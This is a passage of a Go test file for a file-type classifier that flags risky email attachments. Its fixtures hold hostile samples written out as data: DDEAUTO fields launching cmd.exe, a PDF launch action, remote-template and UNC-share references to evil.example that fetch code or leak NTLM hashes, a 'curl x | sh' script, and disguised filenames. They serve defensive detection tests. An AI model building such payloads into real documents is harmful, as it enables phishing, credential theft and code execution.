package filetype

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/binary"
	"errors"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"golang.org/x/text/encoding/japanese"
)

type classifyCase struct {
	name     string
	data     []byte
	declared string
	filename string
	lim      Limits

	class    Class
	sniffed  string   // "" → not checked
	exe, enc bool     // Result.Executable, Result.Encrypted
	findings []string // each must be among Result.Findings
	clean    bool     // no findings at all
	mismatch string   // exact Result.Mismatch ("" → must be empty)
}

// wordField is a Word document part with one field whose code is split
// over the runs of parts.
func wordField(parts ...string) []byte {
	var b strings.Builder
	b.WriteString(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`)
	for _, p := range parts {
		b.WriteString(`<w:r><w:instrText xml:space="preserve">` + p + `</w:instrText></w:r>`)
	}
	b.WriteString(`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`)
	return []byte(b.String())
}

// utf16LE is s in UTF-16, little-endian, with a byte order mark.
func utf16LE(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		out = binary.LittleEndian.AppendUint16(out, u)
	}
	return out
}

func sjis(t testing.TB, s string) []byte {
	b, err := japanese.ShiftJIS.NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestClassify(t *testing.T) {
	zeros := make([]byte, 20<<20)
	exe := peFile()
	aesExtra := []byte{0x01, 0x99, 0x07, 0x00, 0x02, 0x00, 'A', 'E', 0x03, 0x08, 0x00}

	cases := []classifyCase{
		// Plain content, names and declared types.
		{name: "text", data: []byte("会議は3時からです。\r\n"), declared: "text/plain; charset=utf-8", filename: "memo.txt",
			class: ClassText, sniffed: "text/plain", clean: true},
		{name: "csv declared as excel by Windows", data: []byte("名前,数量\r\nりんご,3\r\n"), declared: "application/vnd.ms-excel", filename: "集計.csv",
			class: ClassText, sniffed: "text/plain", clean: true},
		// Citrix Workspace connects to Address and runs InitialProgram,
		// as Remote Desktop does with an .rdp file.
		{name: "citrix launcher", data: []byte("[WFClient]\r\nVersion=2\r\n[ApplicationServers]\r\nDesktop=\r\n[Desktop]\r\nAddress=203.0.113.10:1494\r\nInitialProgram=#Desktop\r\n"), declared: "text/plain", filename: "connect.ica",
			class: ClassExecutable, sniffed: "text/plain", exe: true, mismatch: "declared text/plain, extension .ica, content text/plain"},
		// A bounce's report: text, no mismatch; still no file to keep.
		{name: "delivery status", data: []byte("Reporting-MTA: dns; mx.example.jp\r\n\r\nFinal-Recipient: rfc822; taro@example.jp\r\nAction: failed\r\nStatus: 5.1.1\r\n"), declared: "message/delivery-status",
			class: ClassOther, sniffed: "text/plain", clean: true},
		{name: "read receipt", data: []byte("Reporting-UA: mail.example.jp\r\nFinal-Recipient: rfc822; taro@example.jp\r\nDisposition: manual-action/MDN-sent-manually; displayed\r\n"), declared: "message/disposition-notification",
			class: ClassOther, sniffed: "text/plain", clean: true},
		// OneNote files are never kept; their content is no mismatch
		// of their name and type. Nor is armoured OpenPGP text.
		{name: "onenote", data: append([]byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"), make([]byte, 48)...), declared: "application/onenote", filename: "議事録.one",
			class: ClassExecutable, sniffed: "application/onenote", exe: true},
		{name: "pgp message", data: []byte("-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0cM\r\n-----END PGP MESSAGE-----\r\n"), declared: "application/octet-stream", filename: "encrypted.asc",
			class: ClassText, sniffed: "text/plain", clean: true},
		{name: "pgp version part", data: []byte("Version: 1\r\n"), declared: "application/pgp-encrypted",
			class: ClassOther, sniffed: "text/plain", clean: true},
		{name: "exe declared as a delivery status", data: exe, declared: "message/delivery-status",
			class: ClassExecutable, sniffed: "application/x-msdownload", exe: true,
			mismatch: "declared message/delivery-status, content application/x-msdownload"},
		{name: "pdf", data: pdfFile(""), declared: "application/pdf", filename: "議事録.pdf",
			class: ClassPDF, sniffed: "application/pdf", clean: true},
		{name: "exe disguised as pdf", data: exe, declared: "application/pdf", filename: "invoice.pdf",
			class: ClassExecutable, sniffed: "application/x-msdownload", exe: true,
			mismatch: "declared application/pdf, extension .pdf, content application/x-msdownload"},
		{name: "double extension", data: exe, declared: "application/octet-stream", filename: "invoice.pdf.exe",
			class: ClassExecutable, exe: true, findings: []string{"filename: double extension .pdf.exe"}},
		{name: "trailing dots and spaces", data: []byte("echo hi\r\n"), filename: "run.bat. . .",
			class: ClassExecutable, exe: true},
		{name: "windows path", data: []byte("WScript.Echo 1\r\n"), filename: `C:\Users\x\Desktop\LOVE.VBS`,
			class: ClassExecutable, exe: true},
		// Upper-cased as Windows compares names, ſ is S and ı is I.
		{name: "long s", data: []byte("WScript.Echo 1\r\n"), filename: "run.vbſ",
			class: ClassExecutable, exe: true},
		{name: "dotless i", data: exe, filename: "setup.pıf",
			class: ClassExecutable, exe: true, sniffed: "application/x-msdownload"},
		{name: "alternate data stream", data: []byte("text"), filename: "a.exe::$DATA",
			class: ClassExecutable, exe: true, mismatch: "extension .exe, content text/plain"},
		{name: "nul truncation", data: []byte("text"), filename: "a.exe\x00.txt",
			class: ClassExecutable, exe: true, mismatch: "extension .exe, content text/plain"},
		{name: "right-to-left override", data: []byte("just text"), declared: "text/plain", filename: "photo\u202Egpj.txt",
			class: ClassExecutable, findings: []string{`filename: bidi control U+202E in photo\u202Egpj.txt`}},
		{name: "declared executable", data: []byte("hello"), declared: "application/x-msdownload", filename: "",
			class: ClassExecutable, exe: true, mismatch: "declared application/x-msdownload, content text/plain"},
		{name: "octet-stream is no mismatch", data: pngImage(t), declared: "application/octet-stream", filename: "dot.png",
			class: ClassImage, sniffed: "image/png", clean: true},
		{name: "unknown declared type is other", data: pngImage(t), declared: "application/x-whatever", filename: "",
			class: ClassOther, mismatch: "declared application/x-whatever, content image/png"},
		{name: "image family agrees", data: pngImage(t), declared: "image/jpeg", filename: "dot.jpg",
			class: ClassImage, sniffed: "image/png"},
		{name: "html as text", data: []byte("<!DOCTYPE html><html><body onload=x()>hi</body></html>"), declared: "text/plain", filename: "readme.txt",
			class: ClassOther, sniffed: "text/html", mismatch: "declared text/plain, extension .txt, content text/html"},
		{name: "javascript is a script", data: []byte("var s = new ActiveXObject('WScript.Shell');\n"), declared: "text/plain", filename: "a.js",
			class: ClassExecutable, exe: true, mismatch: "declared text/plain, extension .js, content text/plain"},
		{name: "shebang", data: []byte("#!/bin/sh\ncurl x | sh\n"), filename: "install",
			class: ClassExecutable, sniffed: "text/x-shellscript", exe: true},
		{name: "msi by content", data: oleFile(clsidMSI, oleEnt{"\u4840\u3b3f\u4577", 2}), filename: "setup.doc",
			class: ClassExecutable, sniffed: "application/x-msi", exe: true, mismatch: "extension .doc, content application/x-msi"},
		{name: "doc with macros", data: oleFile(clsidWord, oleEnt{"WordDocument", 2}, oleEnt{"Macros", 1}, oleEnt{"VBA", 1}), filename: "請求書.doc",
			class: ClassOffice, sniffed: "application/msword", findings: []string{"office: macros"}},
		{name: "password-protected docx", data: oleFile(make([]byte, 16), oleEnt{"EncryptionInfo", 2}, oleEnt{"EncryptedPackage", 2}), filename: "見積.docx",
			class: ClassEncryptedArchive, enc: true, findings: []string{"office: encrypted document"}},
		{name: "rtf with object", data: []byte(`{\rtf1\ansi{\object\objemb{\*\objdata 0105000002}}}`), filename: "a.rtf",
			class: ClassOffice, sniffed: "application/rtf", findings: []string{"office: embedded object"}},
		// Word fetches the template an RTF names, as a DOCX's external
		// attachedTemplate (blocked): remote template injection (red team).
		{name: "rtf with a remote template", data: []byte(`{\rtf1\ansi{\*\template http://evil.example/t.dotm}hello}`), filename: "a.rtf",
			class: ClassOffice, sniffed: "application/rtf", findings: []string{"office: external reference template"}},
		{name: "rtf with a template on a share and an object", data: []byte(`{\rtf1\ansi{\*\template \\\\evil\\s\\t.dotm}{\object\objemb{\*\objdata 01}}}`), filename: "a.rtf",
			class: ClassOffice, sniffed: "application/rtf", findings: []string{"office: external reference template", "office: embedded object"}},
		{name: "plain rtf", data: []byte(`{\rtf1\ansi{\fonttbl{\f0 MS Mincho;}}\f0 templates and objects}`), filename: "a.rtf",
			class: ClassOffice, sniffed: "application/rtf", clean: true},
		{name: "pdf javascript", data: pdfFile("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: javascript"}},
		{name: "pdf hex-escaped names", data: pdfFile("/OpenAction << /S /L#61unch /F (cmd.exe) >> /Names << /#45mbeddedFiles 3 0 R >>"), filename: "a.pdf",
			class: ClassPDF, findings: []string{"pdf: launch action", "pdf: embedded file"}},
		{name: "pdf after junk", data: append([]byte("\x00\x01junk junk\n"), pdfFile("")...), filename: "a.pdf",
			class: ClassPDF, sniffed: "application/pdf"},
		{name: "tnef", data: []byte("\x78\x9f\x3e\x22\x01\x00\x01\x06\x90\x08\x00"), declared: "application/ms-tnef", filename: "winmail.dat",
			class: ClassOther, sniffed: "application/ms-tnef", clean: true},
		{name: "rar not inspected", data: []byte("Rar!\x1a\x07\x01\x00\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00"), filename: "a.rar",
			class: ClassArchive, sniffed: "application/vnd.rar", findings: []string{"archive not inspected: rar"}},
		{name: "rar5 names", data: rar5([]string{"readme.txt", "請求書.pdf.exe"}, false, false), filename: "a.rar",
			class: ClassExecutable, exe: true, findings: []string{"archive not inspected: rar", "archive: executable entry 請求書.pdf.exe"}},
		{name: "rar5 encrypted file", data: rar5([]string{"見積書.xlsx"}, true, false), filename: "a.rar",
			class: ClassEncryptedArchive, enc: true, findings: []string{"rar: encrypted entry 見積書.xlsx"}},
		{name: "rar5 encrypted headers", data: rar5(nil, false, true), filename: "a.rar",
			class: ClassEncryptedArchive, enc: true, findings: []string{"rar: encrypted headers"}},
		{name: "rar4 names", data: rar4([]string{"doc.txt", string(sjis(t, "写真.scr"))}, false, false), filename: "a.rar",
			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry 写真.scr"}},
		{name: "rar4 encrypted file", data: rar4([]string{"a.docx"}, true, false), filename: "a.rar",
			class: ClassEncryptedArchive, enc: true, findings: []string{"rar: encrypted entry a.docx"}},
		{name: "rar4 encrypted headers", data: rar4(nil, false, true), filename: "a.rar",
			class: ClassEncryptedArchive, enc: true, findings: []string{"rar: encrypted headers"}},
		{name: "rar inside zip", data: zipFile(t, deflate("x.rar", rar5([]string{"run.cmd"}, false, false))), filename: "a.zip",
			class: ClassExecutable, exe: true, findings: []string{"zip: nested archive x.rar", "archive not inspected: rar x.rar", "archive: executable entry x.rar/run.cmd"}},
		{name: "iso is an archive", data: isoImage(), filename: "invoice.iso",
			class: ClassArchive, sniffed: "application/x-iso9660-image", findings: []string{"archive not inspected: iso9660 disk image"}},
		{name: "zip appended to image", data: append(pngImage(t), zipFile(t, deflate("run.vbs", []byte("x")))...), filename: "cat.png",
			class: ClassExecutable, exe: true, findings: []string{"zip: archive appended to image/png", "archive: executable entry run.vbs"}},

		{name: "end record alone does not make an archive", data: append(pngImage(t), "PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\x2e\x00\x00\x00\x00\x00\x00\x00\x00\x00"...), filename: "dot.png",
			class: ClassImage, sniffed: "image/png", clean: true},

		// ZIP archives.
		{name: "zip of documents", data: zipFile(t, deflate("a.txt", []byte("hello")), deflate("b.pdf", pdfFile(""))), declared: "application/zip", filename: "docs.zip",
			class: ClassArchive, sniffed: "application/zip", clean: true},
		{name: "ppap", data: zipFile(t, zent{name: "secret.docx", data: []byte("\x8a\x1e encrypted bytes"), raw: true, size: 9000, flags: 1}), filename: "資料.zip",
			class: ClassEncryptedArchive, enc: true, findings: []string{"zip: encrypted entry secret.docx"}},
		{name: "aes extra field", data: zipFile(t, zent{name: "x.xlsx", data: []byte("0123456789abcdef"), raw: true, size: 100, method: 99, extra: aesExtra}), filename: "a.zip",
			class: ClassEncryptedArchive, enc: true, findings: []string{"zip: encrypted entry x.xlsx"}},
		{name: "encrypted executable", data: zipFile(t, zent{name: "setup.exe", data: []byte("0123456789"), raw: true, size: 10, flags: 1}), filename: "a.zip",
			class: ClassExecutable, exe: true, enc: true},
		{name: "executable by content", data: zipFile(t, deflate("photo.jpg", exe)), filename: "photos.zip",
			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry photo.jpg"}},
		{name: "nested zip", data: zipFile(t, deflate("inner.zip", zipFile(t, deflate("evil.exe", exe)))), filename: "a.zip",
			class: ClassExecutable, exe: true, findings: []string{"zip: nested archive inner.zip", "archive: executable entry inner.zip/evil.exe"}},
		{name: "nested stored zip", data: zipFile(t, stored("inner.zip", zipFile(t, zent{name: "s.pdf", data: []byte("x"), raw: true, size: 1, flags: 1}))), filename: "a.zip",
			class: ClassEncryptedArchive, enc: true, findings: []string{"zip: encrypted entry inner.zip/s.pdf"}},
		{name: "nesting too deep", data: nestZips(t, zipFile(t, deflate("deep.exe", exe)), 4), filename: "a.zip",
			class: ClassArchive, findings: []string{"archive: nesting too deep level1.zip/level2.zip/level3.zip"}},
		{name: "nesting within limit", data: nestZips(t, zipFile(t, deflate("deep.exe", exe)), 2), filename: "a.zip",
			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry level1.zip/level2.zip/deep.exe"}},
		{name: "zip bomb by ratio", data: zipFile(t, deflate("zeros.bin", zeros)), filename: "a.zip",
			class: ClassArchive, findings: []string{"archive: ratio exceeded zeros.bin", "archive: ratio exceeded (overall)"}},
		{name: "lying size header", data: zipFile(t, zent{name: "small.txt", data: deflated(t, zeros), raw: true, size: 100, method: zip.Deflate}), filename: "a.zip",
			class: ClassArchive, findings: []string{"archive: corrupt entry small.txt: zip: not a valid zip file"}},
		{name: "total size", data: zipFile(t, deflate("a.txt", bytes.Repeat([]byte("abcdefgh\n"), 200<<10)), deflate("b.txt", bytes.Repeat([]byte("abcdefgh\n"), 200<<10))),
			filename: "a.zip", lim: Limits{MaxTotal: 2 << 20},
			class: ClassArchive, findings: []string{"archive: total size exceeded (3686400 bytes declared)"}},
		{name: "too many entries", data: manyEntries(t, 30), filename: "a.zip", lim: Limits{MaxEntries: 10},
			class: ClassArchive, findings: []string{"archive: too many entries (more than 10)"}},
		{name: "shift_jis entry name", data: zipFile(t, zent{name: string(sjis(t, "請求書.exe")), data: exe, method: zip.Deflate, nonUTF8: true}), filename: "a.zip",
			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry 請求書.exe"}},
		{name: "corrupt zip", data: zipFile(t, deflate("run.exe", exe), deflate("b.txt", []byte("b")))[:200], filename: "a.zip",
			class: ClassExecutable, exe: true, findings: []string{"zip: corrupt: not a valid zip", "archive: executable entry run.exe"}},
		{name: "directories are not hidden entries", data: zipFile(t, stored("docs/", nil), deflate("docs/a.txt", []byte("a")), zent{name: "x/", method: zip.Deflate}), filename: "a.zip",
			class: ClassArchive, clean: true},
		{name: "oversized name", data: zipFile(t, deflate("a.txt", []byte("a")), deflate(strings.Repeat("d/", 3000)+"x.exe", exe)), filename: "a.zip",
			class: ClassArchive, findings: []string{"zip: corrupt: oversized central directory header"}},
		{name: "concatenated zips", data: append(zipFile(t, deflate("invoice.exe", exe)), zipFile(t, deflate("invoice.pdf", pdfFile("")))...), filename: "a.zip",
			class: ClassExecutable, exe: true, findings: []string{"zip: concatenated archive", "archive: executable entry invoice.exe"}},
		{name: "jar", data: zipFile(t, deflate("META-INF/MANIFEST.MF", []byte("Main-Class: A\n")), deflate("A.class", javaClass())), filename: "tool.zip",
			class: ClassExecutable, sniffed: "application/java-archive", exe: true, findings: []string{"zip: java archive"},
			mismatch: "extension .zip, content application/java-archive"},

		// Office Open XML.
		{name: "docx", data: docx(t), declared: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", filename: "議事録.docx",
			class: ClassOffice, sniffed: mimeDocx, clean: true},
		{name: "docx declared as zip", data: docx(t), declared: "application/x-zip-compressed", filename: "議事録.docx",
			class: ClassOffice, sniffed: mimeDocx, clean: true},
		{name: "docx with vbaProject.bin", data: docx(t, deflate("word/vbaProject.bin", oleFile(make([]byte, 16), oleEnt{"VBA", 1}, oleEnt{"_VBA_PROJECT", 2}))), filename: "請求書.docx",
			class: ClassOffice, sniffed: mimeDocm, findings: []string{"office: macros"}},
		{name: "docx with renamed vba project", data: docx(t, deflate("word/media/image9.bin", oleFile(make([]byte, 16), oleEnt{"VBA", 1}))), filename: "a.docx",
			class: ClassOffice, sniffed: mimeDocm, findings: []string{"office: macros"}},
		{name: "docx remote template", data: docx(t, deflate("word/_rels/settings.xml.rels", []byte(`<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
		// A relationship part is read as Word reads it (XML): blanks
		// around "=", character references, a namespace prefix and UTF-16
		// hide nothing, and every external target but a web link counts.
		{name: "remote template, blanks around =", data: docx(t, deflate("word/_rels/settings.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode = "External"/></Relationships>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
		{name: "remote template, character references", data: docx(t, deflate("word/_rels/settings.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attached&#84;emplate" Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/></Relationships>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
		{name: "remote template, prefixed element", data: docx(t, deflate("word/_rels/settings.xml.rels", []byte(`<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></r:Relationships>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
		{name: "remote template, UTF-16 part", data: docx(t, deflate("word/_rels/settings.xml.rels", utf16LE(`<?xml version="1.0" encoding="UTF-16"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference attachedtemplate in word/_rels/settings.xml.rels"}},
		{name: "linked picture on a share (NTLM)", data: docx(t, deflate("word/_rels/document.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil.example/s/a.png" TargetMode="External"/></Relationships>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference image in word/_rels/document.xml.rels"}},
		{name: "workbook linked to a workbook on a share", data: docx(t, deflate("xl/externalLinks/_rels/externalLink1.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil.example\\s\\b.xlsx" TargetMode="External"/></Relationships>`))), filename: "a.xlsx",
			class: ClassOffice, findings: []string{"office: external reference externallinkpath in xl/externalLinks/_rels/externalLink1.xml.rels"}},
		{name: "slide video on a share", data: docx(t, deflate("ppt/slides/_rels/slide1.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/video" Target="\\\\evil\\s\\v.mp4" TargetMode="External"/></Relationships>`))), filename: "a.pptx",
			class: ClassOffice, findings: []string{"office: external reference video in ppt/slides/_rels/slide1.xml.rels"}},
		{name: "slide action running a program", data: docx(t, deflate("ppt/slides/_rels/slide1.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:///C:/Windows/System32/cmd.exe" TargetMode="External"/></Relationships>`))), filename: "a.pptx",
			class: ClassOffice, findings: []string{"office: link to a file (file:) in ppt/slides/_rels/slide1.xml.rels"}},
		{name: "hyperlink to a share", data: docx(t, deflate("word/_rels/document.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="\\\\evil\\s\\x.docx" TargetMode="External"/></Relationships>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: link to a network share (UNC path) in word/_rels/document.xml.rels"}},
		{name: "relationships with a DTD", data: docx(t, deflate("word/_rels/document.xml.rels", []byte(`<!DOCTYPE r [<!ENTITY t "http://evil.example/t.dotm">]><Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="&t;" TargetMode="External"/></Relationships>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: relationships not inspected (DTD) in word/_rels/document.xml.rels"}},
		{name: "web hyperlink and internal parts", data: docx(t, deflate("word/_rels/document.xml.rels", []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml" TargetMode="Internal"/></Relationships>`))), filename: "a.docx",
			class: ClassOffice, clean: true},
		// Word fields that fetch a picture or a text (from a share: the
		// NTLM hash), link an object or run DDE, and HYPERLINK fields to
		// anything but the web, read from instrText split over runs.
		{name: "INCLUDEPICTURE field split over runs", data: docx(t, deflate("word/document.xml", wordField(` INCLUDE`, `PICTURE "\\\\evil.example\\s\\a.png" \d `))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference includepicture field in word/document.xml"}},
		{name: "INCLUDETEXT field in a footer", data: docx(t, deflate("word/footer1.xml", wordField(` includetext "http://evil.example/x.docx" `))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference includetext field in word/footer1.xml"}},
		{name: "DDEAUTO simple field", data: docx(t, deflate("word/document.xml", []byte(`<w:document xmlns:w="w"><w:body><w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "/></w:p></w:body></w:document>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference ddeauto field in word/document.xml"}},
		{name: "HYPERLINK field to a share", data: docx(t, deflate("word/document.xml", wordField(` HYPERLINK "\\\\evil\\s\\x.docx" `))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: link to a network share (UNC path) in word/document.xml"}},
		{name: "field keyword made by a field", data: docx(t, deflate("word/document.xml", []byte(`<w:document xmlns:w="w"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE "INCLUDEPICTURE"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> "\\\\evil\\s\\a.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: fields not inspected word/document.xml: a field's keyword made by another field"}},
		// A field inside another's code, after the outer's keyword, with
		// a separate mark and an end of its own: the outer field goes on
		// after it, its target a share. Popping at both marks closed the
		// outer field with the inner one, and its target went unread.
		// The target made by a field in the code: Word links to the
		// inner field's result, which is no part of the outer's code.
		{name: "HYPERLINK whose target is a nested field's result", data: docx(t, deflate("word/document.xml", []byte(`<w:document xmlns:w="w"><w:body><w:p>`+
			`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK </w:instrText></w:r>`+
			`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> QUOTE "\\\\evil\\s\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>\\evil\s\x.docx</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`+
			`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>open</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: fields not inspected word/document.xml: a HYPERLINK's target made by another field"}},
		// A code after a field's separate mark, in its result, with no
		// begin mark of its own, is read as a code without any field is
		// (before a field stayed open past its separate mark, it was).
		{name: "DDEAUTO code in a field's result", data: docx(t, deflate("word/document.xml", []byte(`<w:document xmlns:w="w"><w:body><w:p>`+
			`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>`+
			`<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r>`+
			`<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: external reference ddeauto field in word/document.xml"}},
		{name: "HYPERLINK to a share after a field in its code", data: docx(t, deflate("word/document.xml", []byte(`<w:document xmlns:w="w"><w:body><w:p>`+
			`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK </w:instrText></w:r>`+
			`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> QUOTE x </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`+
			`<w:r><w:instrText xml:space="preserve"> "\\\\evil\\s\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>open</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: link to a network share (UNC path) in word/document.xml"}},
		{name: "ordinary fields", data: docx(t, deflate("word/document.xml", wordField(` HYPERLINK "https://www.city.example.lg.jp/link/a" `)), deflate("word/header1.xml", wordField(` PAGE \* MERGEFORMAT `)), deflate("word/footer1.xml", wordField(` HYPERLINK \l "_Toc1" `))), filename: "a.docx",
			class: ClassOffice, clean: true},
		{name: "ActiveX control", data: docx(t, deflate("word/activeX/activeX1.xml", []byte(`<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>`))), filename: "a.docx",
			class: ClassOffice, findings: []string{"office: embedded or external content word/activeX/activeX1.xml"}},
		{name: "workbook data connection", data: docx(t, deflate("xl/connections.xml", []byte(`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://evil.example/q"/></connection></connections>`))), filename: "a.xlsx",
			class: ClassOffice, findings: []string{"office: embedded or external content xl/connections.xml"}},
		{name: "workbook DDE link", data: docx(t, deflate("xl/externalLinks/externalLink1.xml", []byte(`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`))), filename: "a.xlsx",
			class: ClassOffice, findings: []string{"office: external reference ddelink in xl/externalLinks/externalLink1.xml"}},
		{name: "workbook OLE link, prefixed", data: docx(t, deflate("xl/externalLinks/externalLink2.xml", []byte(`<x:externalLink xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:oleLink r:id="rId1" progId="Package"/></x:externalLink>`))), filename: "a.xlsx",
			class: ClassOffice, findings: []string{"office: external reference olelink in xl/externalLinks/externalLink2.xml"}},
		{name: "docx carrying an executable", data: docx(t, deflate("word/embeddings/a.exe", exe)), filename: "a.docx",
			class: ClassExecutable, exe: true},
		{name: "zip named docx", data: zipFile(t, deflate("a.txt", []byte("x"))), filename: "a.docx",
			class: ClassArchive, sniffed: "application/zip", mismatch: "extension .docx, content application/zip"},

		// gzip and tar.
		{name: "tar.gz with executable", data: gzipOf(t, "", tarFile(t, map[string][]byte{"a.txt": []byte("a"), "bin/tool": elfFile()}, "a.txt", "bin/tool")), filename: "src.tar.gz",
			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry bin/tool"}},
		{name: "gzip of script by member name", data: gzipOf(t, "update.ps1", []byte("Invoke-WebRequest x\n")), filename: "update.gz",
			class: ClassExecutable, exe: true, findings: []string{"archive: executable entry update.ps1"}},
